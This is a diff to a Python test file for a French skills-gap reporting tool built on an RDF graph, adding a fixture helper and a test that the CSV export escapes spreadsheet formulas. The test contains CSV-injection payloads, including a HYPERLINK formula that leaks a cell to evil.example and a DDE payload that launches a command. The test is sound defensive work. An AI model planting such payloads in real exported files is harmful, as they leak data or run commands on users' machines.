@@ -6,6 +6,8 @@ below were worked out by hand from it.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
@@ -15,6 +17,7 @@ import pytest
 from typer.testing import CliRunner
 
 from kg.cli import app
+from kg.derive import load_rules, run_rule
 from kg.gaps import ScopeError, resolve_scope, resolve_territory, trade_gaps
 from kg.gaps_report import RENDERERS, render_html
 from kg.queries import ParameterError, named_query
@@ -25,11 +28,19 @@ FIXTURE = ROOT / "tests" / "fixtures" / "gaps" / "graph.ttl"
 TRADE = f"{TEST_BASE}id/trade/t"
 
 
+def load_fixture(graph: ox.Store) -> ox.Store:
+    """The fixture graph plus the links a build derives from it (mappings/derive/target-trade-*.rq):
+    the reports read a trade's offers and certifications from them."""
+    graph.load(path=FIXTURE, format=ox.RdfFormat.TURTLE)
+    for rule in load_rules():
+        if rule.source == "target-trades":
+            graph.load(run_rule(graph, rule, TEST_BASE), format=ox.RdfFormat.N_TRIPLES)
+    return graph
+
+
 @pytest.fixture(scope="module")
 def store() -> ox.Store:
-    graph = ox.Store()
-    graph.load(path=FIXTURE, format=ox.RdfFormat.TURTLE)
-    return graph
+    return load_fixture(ox.Store())
 
 
 def _demand(report: object) -> dict[str, tuple[float, bool, str | None]]:
@@ -132,7 +143,7 @@ def test_html_report_escapes_source_text(store: ox.Store) -> None:
 def test_cli_report_in_every_format(store: ox.Store, tmp_path: Path) -> None:
     layout = StoreLayout(tmp_path / "store")
     with layout.new_build() as target:
-        target.store.load(path=FIXTURE, format=ox.RdfFormat.TURTLE)
+        load_fixture(target.store)
     runner = CliRunner()
     env = {"PASSERELLES_BASE_IRI": TEST_BASE}
     base = ["gaps", "--trade", "t", "--store", str(tmp_path / "store")]
@@ -146,3 +157,26 @@ def test_cli_report_in_every_format(store: ox.Store, tmp_path: Path) -> None:
         assert "Lire un plan" in out.read_text(encoding="utf-8")
     bad = runner.invoke(app, [*base, "--territory", "planet:earth"], env=env)
     assert bad.exit_code == 1 and "territory" in bad.output
+
+
+def test_csv_report_neutralises_formulas() -> None:
+    """OWASP CSV injection: a text cell starting with = + - @ TAB or CR is written with a leading
+    quote, so that a spreadsheet shows it instead of running it; numbers stay numbers."""
+    graph = load_fixture(ox.Store())
+    skos_label = ox.NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel")
+    hostile = {
+        "2": '=HYPERLINK("http://evil.example/?leak="&A1,"Lire un plan")',
+        "3": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "1": "-2+3",
+        "4": "\tBanchage",
+    }
+    for code, label in hostile.items():
+        skill = ox.NamedNode(f"{TEST_BASE}id/competence/{code}")
+        for quad in list(graph.quads_for_pattern(skill, skos_label, None)):
+            graph.remove(quad)
+        graph.add(ox.Quad(skill, skos_label, ox.Literal(label, language="fr")))
+    report = trade_gaps(graph, TRADE, TEST_BASE)
+    rows = list(csv.DictReader(io.StringIO(RENDERERS["csv"]([report]))))
+    assert {r["skill_code"]: r["skill_label"] for r in rows} == {c: "'" + v for c, v in hostile.items()}
+    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)
+    assert [float(r["demand"]) for r in rows] == [0.36, 0.32, 0.22, 0.18]
